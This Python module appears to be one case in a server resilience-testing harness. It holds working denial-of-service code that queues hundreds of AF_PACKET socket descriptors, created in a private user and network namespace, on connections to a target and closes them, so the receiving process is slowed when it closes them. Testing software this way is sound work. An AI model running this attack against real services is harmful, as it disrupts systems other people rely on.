# SPDX-License-Identifier: Apache-2.0 OR BSD-3-Clause
"""Attacks by what is queued on a socket and never received: descriptors whose
last close takes long, for the process that closes them."""

import array
import ctypes
import os
import socket

from attack import attack

CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
FDS_IN_A_MESSAGE = 250                  # SCM_MAX_FD is 253
libc = ctypes.CDLL(None, use_errno=True)


def queue(sock, fds):
    """Send these descriptors, and do not wait for anybody to take them.

    Returns how many the kernel took: on a socket that waits for its turn it
    takes none where the receiver has said so (SO_PASSRIGHTS).
    """
    sent = 0
    for first in range(0, len(fds), FDS_IN_A_MESSAGE):
        some = array.array("i", fds[first:first + FDS_IN_A_MESSAGE])
        try:
            sock.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, some)],
                         socket.MSG_DONTWAIT)
        except OSError:
            break
        sent += len(some)
    return sent


def in_a_network_of_its_own(count):
    """So many AF_PACKET sockets: each close waits until no CPU looks at it."""
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0:
        raise RuntimeError("unshare: no user and network namespace: "
                           + os.strerror(ctypes.get_errno()))
    return [socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).detach()
            for _ in range(count)]


@attack
def queued_packet_sockets(target):
    """AF_PACKET sockets on the way in connections that are closed at once."""
    fds = in_a_network_of_its_own(400) if not target.kept else []
    target.kept.append(True)
    for _ in range(4):
        sock = target.connect()
        queue(sock, fds)
        sock.close()
    for fd in fds:
        os.close(fd)
